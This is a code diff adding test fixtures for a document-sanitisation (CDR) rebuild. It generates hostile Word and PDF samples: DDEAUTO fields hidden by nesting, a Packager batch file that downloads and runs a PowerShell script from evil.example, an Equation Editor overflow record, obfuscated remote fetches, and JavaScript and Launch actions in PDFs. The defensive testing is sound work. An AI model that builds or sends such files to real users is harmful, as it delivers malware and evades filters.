@@ -828,3 +828,132 @@ def mail_merge_settings(base: bytes, connect: str = "Provider=Microsoft.ACE.OLED
     # mailMerge comes after a few elements in CT_Settings order; Word accepts it near the start too
     settings = settings[:i] + merge + settings[i:]
     return rezip(base, replace={"word/settings.xml": settings.encode()})
+
+
+# ------------------------------------------------------------ rebuilt, never filtered (CDR)
+#
+# Files the deny-list checks once let through or never looked at. The rebuild
+# (kcg_mail.documents.rebuild) must leave nothing of them in what members get.
+
+_V_NS = "urn:schemas-microsoft-com:vml"
+_O_NS = "urn:schemas-microsoft-com:office:office"
+
+
+def nested_field_ddeauto(base: bytes) -> bytes:
+    """``{ {QUOTE "DDE"}AUTO c:\\windows\\system32\\cmd.exe "/k calc" }``: the field's name is the
+    result of another field, so no instruction text ever spells DDE or DDEAUTO."""
+    inner = complex_field_runs(' QUOTE "DD" "E" ', result="DDE")
+    runs = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            f'{inner}<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+            '"/k calc" </w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Kursen</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    return _insert_in_body(base, runs)
+
+
+def _ole10native(name: str, payload: bytes) -> bytes:
+    """The ``\\x01Ole10Native`` stream of an OLE Packager object (a file wrapped as an icon)."""
+    label = name.encode("latin-1") + b"\0"
+    path = b"C:\\Users\\vard\\Desktop\\" + label
+    body = (struct.pack("<H", 2) + label + path + struct.pack("<I", 0x00030000)
+            + struct.pack("<I", len(path)) + path + struct.pack("<I", len(payload)) + payload)
+    return struct.pack("<I", len(body)) + body
+
+
+def _embed_ole(base: bytes, ole: bytes, prog_id: str, *, icon: bool) -> bytes:
+    """An embedded OLE object as Word writes it: word/embeddings/oleObject1.bin with its
+    relationship and content type, and a w:object in a paragraph of the body."""
+    data = _add_part(base, "word/embeddings/oleObject1.bin", "", "application/vnd.openxmlformats-officedocument.oleObject",
+                     _REL_BASE + "oleObject", rid="rIdOle1")
+    data = rezip(data, replace={"word/embeddings/oleObject1.bin": ole})
+    aspect = "Icon" if icon else "Content"
+    obj = (f'<w:r><w:object xmlns:v="{_V_NS}" xmlns:o="{_O_NS}" xmlns:r="{R_NS}" w:dxaOrig="1531" w:dyaOrig="811">'
+           '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76.5pt;height:40.5pt" o:ole=""/>'
+           f'<o:OLEObject Type="Embed" ProgID="{prog_id}" ShapeID="_x0000_i1025" DrawAspect="{aspect}" '
+           'ObjectID="_1742301234" r:id="rIdOle1"/></w:object></w:r>')
+    return _insert_in_body(data, '<w:r><w:t>Bilaga: </w:t></w:r>' + obj)
+
+
+def packager_ole_bat(base: bytes) -> bytes:
+    """A Packager object holding a .bat file: one double-click runs it."""
+    bat = b"@echo off\r\npowershell -w hidden -c \"iwr http://evil.example/p.ps1 | iex\"\r\n"
+    ole = ole_file({"\x01Ole10Native": _ole10native("protokoll.bat", bat)})
+    return _embed_ole(base, ole, "Package", icon=True)
+
+
+def equation_editor_ole(base: bytes) -> bytes:
+    """An Equation Editor 3.0 object (``Equation.3``, the EQNEDT32 overflow family): an
+    MTEF record with an overlong font name, which the old editor copied onto its stack."""
+    mtef = struct.pack("<HIHIIIH", 0x1C, 0x00020000, 0, 0, 0, 0, 0) + b"\x03\x01\x01\x03\x0a\x0a\x08" + \
+        b"cmd.exe /c calc " + b"A" * 40 + b"\x00"
+    ole = ole_file({"Equation Native": mtef})
+    return _embed_ole(base, ole, "Equation.3", icon=False)
+
+
+def alt_chunk_html_charref(base: bytes) -> bytes:
+    """An HTML altChunk whose picture address is written with character references."""
+    html = (b'<html><body><p>Bild:</p><img src="&#x68;&#116;tp://evil.example/p.png" width="1" height="1">'
+            b"</body></html>")
+    return with_alt_chunk(base, "afchunk.htm", html, "application/xhtml+xml")
+
+
+def alt_chunk_html_utf16(base: bytes) -> bytes:
+    """An HTML altChunk in UTF-16 (with a byte-order mark): a stylesheet fetched from outside."""
+    html = '<html><head><link rel="stylesheet" href="http://evil.example/s.css"></head><body>x</body></html>'
+    return with_alt_chunk(base, "afchunk.htm", "\ufeff".encode("utf-16-le") + html.encode("utf-16-le"), "text/html")
+
+
+def alt_chunk_rtf_escaped(base: bytes) -> bytes:
+    """An RTF altChunk whose INCLUDEPICTURE address is written with RTF hex and Unicode escapes."""
+    return alt_chunk_rtf(base, "{INCLUDEPICTURE \"\\'68\\u116?tp://evil.example/p.png\" \\\\d}")
+
+
+def pdf_xfa() -> bytes:
+    """An XFA form (scripts in the XML form template), with an AcroForm around it."""
+    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
+           b'<script contentType="application/x-javascript">app.launchURL("http://evil.example/x")</script>'
+           b"</event></subform></template></xdp:xdp>")
+    return pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >>",
+                            [b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream"])
+
+
+def pdf_incremental_update() -> bytes:
+    """A clean PDF with an incremental update appended: the update replaces the catalog by
+    one with an /OpenAction running JavaScript (the revision a viewer shows)."""
+    base = pdf_with_catalog(b"")
+    prev = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
+    out = bytearray(base)
+    offsets = {}
+    offsets[1] = len(out)
+    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n"
+    offsets[6] = len(out)
+    out += b"6 0 obj\n<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://evil.example/u'\\)) >>\nendobj\n"
+    xref = len(out)
+    out += b"xref\n1 1\n%010d 00000 n \n6 1\n%010d 00000 n \n" % (offsets[1], offsets[6])
+    out += b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref)
+    return bytes(out)
+
+
+def pdf_launch_link() -> bytes:
+    """A link annotation whose action launches a program."""
+    return pdf_with_catalog(b"", [b"<< /Type /Annot /Subtype /Link /Rect [50 790 200 810] "
+                                  b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"],
+                            page_extra=b" /Annots [6 0 R]")
+
+
+def pdf_file_attachment_annotation() -> bytes:
+    """A file attached to the page as an annotation (a paper-clip icon)."""
+    data = b"MZ fake executable"
+    return pdf_with_catalog(b"", [
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 700 70 720] /FS 7 0 R >>",
+        b"<< /Type /Filespec /F (bilaga.exe) /EF << /F 8 0 R >> >>",
+        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
+    ], page_extra=b" /Annots [6 0 R]")
+
+
+def pdf_action_in_font() -> bytes:
+    """JavaScript hidden where a rebuild must copy from: an /AA in the page's font dictionary."""
+    objs = _page_objects()
+    objs[3] = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding "
+               b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>")
+    return pdf_from_objects([b"<< /Type /Catalog /Pages 2 0 R >>", *objs])
